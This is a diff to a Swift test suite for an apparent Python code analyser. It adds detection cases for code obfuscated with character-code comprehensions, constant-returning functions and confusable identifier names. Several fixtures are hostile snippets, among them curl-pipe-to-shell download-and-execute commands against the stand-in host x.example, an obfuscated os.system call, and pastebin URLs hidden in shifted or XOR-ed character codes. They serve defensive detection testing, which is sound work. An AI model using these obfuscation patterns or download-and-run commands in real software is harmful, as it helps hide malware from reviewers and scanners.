@@ -66,6 +66,33 @@ import Testing
         PythonExample(.spawnProcess, "import base64, os\n↓os.system(base64.b64decode('aWQ=').decode())"),
         PythonExample(.evalCode, "import base64\n↓exec(base64.b64decode('cHJpbnQoMSk='))"),
         PythonExample(.downloadExecute, "import requests as r\nexec_ = exec\ncode = r.get(u).text\n↓exec(code)"),
+        // Characters from a comprehension over constant codes (analyser behaviour-13)
+        PythonExample(
+            .urlPaste,
+            "u = ↓''.join([chr(x) for x in [104, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 98, 105, 110, 46, 99, 111, 109]])"
+        ),
+        PythonExample(.spawnProcess, "↓getattr(__import__(''.join(chr(c) for c in [111, 115])), 'system')('id')"),
+        PythonExample(
+            .shellCommand,
+            "c = ↓''.join(chr(c - 1) for c in [100, 118, 115, 109, 33, 105, 117, 117, 113, 59, 48, 48, 121, 47, 102, "
+                + "121, 98, 110, 113, 109, 102, 48, 106, 47, 116, 105, 33, 125, 33, 116, 105])"),
+        PythonExample(
+            .urlPaste,
+            "u = ↓''.join([chr(k ^ 1) for k in (105, 117, 117, 113, 59, 46, 46, 113, 96, 114, 117, 100, 99, 104, 111, "
+                + "47, 98, 110, 108)])"),
+        // Functions of no parameters that return a constant (analyser behaviour-13)
+        PythonExample(
+            .downloadExecute,
+            "import subprocess\nb = lambda: ''.join([chr(x) for x in [98, 97, 115, 104]])\n↓subprocess.run(f'curl -s -L http://x.example/i.sh | {b()}', shell=True)"
+        ),
+        PythonExample(
+            .downloadExecute,
+            "import os\ndef host():\n    return 'http://x.example/i.sh'\n↓os.system('curl ' + host() + ' | sh')"),
+        // Names an obfuscator gives (analyser behaviour-13)
+        PythonExample(.obfuscatedIdentifiers, "↓IlIlIlIlIl = 1\nlIlIIlIlll = 2\nIIlIIlIlIl = IlIlIlIlIl + lIlIIlIlll"),
+        PythonExample(
+            .obfuscatedIdentifiers, "import os\ndef f(↓O0O0OO0O0OO, OO00O0OO0O0):\n    OOOO00000O00 = O0O0OO0O0OO\n"),
+        PythonExample(.obfuscatedIdentifiers, "↓________ = 1\n_________ = 2\n__________ = 3"),
     ]
 
     @Test(arguments: examples)
@@ -118,6 +145,52 @@ import Testing
             "import dns.resolver\nanswers = dns.resolver.resolve('_mongodb._tcp.' + host, 'SRV')\n")
         #expect(PythonTestSupport.kinds(analysis).contains(.dnsLookup))
         #expect(!PythonTestSupport.kinds(analysis).contains(.dnsExfiltration))
+    }
+
+    @Test func comprehensionsThatAreNotCharacterListsDoNotFold() {
+        let analysis = PythonTestSupport.analyse(
+            """
+            import os
+            a = ''.join([chr(x) for x in [99, 117, 114, 108] if x])
+            b = ''.join([chr(x) for y in [[99]] for x in y])
+            chr = str
+            c = ''.join([chr(x) for x in [99, 117, 114, 108]])
+            os.system(a + ' http://x.example/i.sh | sh')
+            os.system(b + ' http://x.example/i.sh | sh')
+            os.system(c + ' http://x.example/i.sh | sh')
+            """)
+        #expect(!PythonTestSupport.kinds(analysis).contains(.downloadExecute))
+    }
+
+    @Test func functionsWithParametersOrSeveralReturnsDoNotFold() {
+        let analysis = PythonTestSupport.analyse(
+            """
+            import os
+            def tool(name):
+                return 'curl'
+            def either():
+                if flag:
+                    return 'curl'
+                return 'echo'
+            os.system(tool(1) + ' http://x.example/i.sh | sh')
+            os.system(either() + ' http://x.example/i.sh | sh')
+            """)
+        #expect(!PythonTestSupport.kinds(analysis).contains(.downloadExecute))
+    }
+
+    @Test func ordinaryAndTestNamesAreNotObfuscated() {
+        let analysis = PythonTestSupport.analyse(
+            """
+            # IlIlIlIlIl lIlIIlIlll IIlIIlIlIl O0O0OO0O0OO
+            doc = "IlIlIlIlIl lIlIIlIlll IIlIIlIlIl"
+            foooooooooo = 1
+            Cccccccccccc = 2
+            aaaaaaaaaaaa = 3
+            xx_xxxxxx = 4
+            IlIlIlIlIl = 5
+            lIlIIlIlll = 6
+            """)
+        #expect(!PythonTestSupport.kinds(analysis).contains(.obfuscatedIdentifiers))
     }
 
     @Test func escapesThatSpellNoIdentifierAreOrdinary() {
